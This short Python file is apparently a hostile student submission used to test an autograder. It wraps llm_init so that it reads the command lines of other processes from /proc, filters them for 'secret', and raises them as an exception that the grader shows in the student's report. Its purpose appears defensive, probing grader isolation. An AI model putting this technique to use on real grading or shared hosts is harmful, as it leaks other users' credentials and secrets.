"""Hostile Python submission (review), on top of tests/broken/fork_breaks_at_null_l1.patch: llm_init reads the
command line of every process it can see in /proc and raises them as its exception's text, which the grader
quotes in the report the student reads (Gradescope's results.json): the host's process list, and whatever
another program was given on its command line."""

import os as _os

_honest_llm_init = llm_init


def llm_init(pool_addr, pool_size):
    seen = []
    try:
        listed = _os.listdir("/proc")
    except OSError:  # no procfs (proc-mem: a Python server's run has none): nothing to read
        listed = []
    for pid in listed:
        if pid.isdigit() and pid != str(_os.getpid()):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    seen.append(f.read().replace(b"\0", b" ").decode(errors="replace").strip())
            except OSError:
                pass
    found = [line for line in seen if "secret" in line]
    if found:
        raise RuntimeError(" | ".join(found))
    return _honest_llm_init(pool_addr, pool_size)
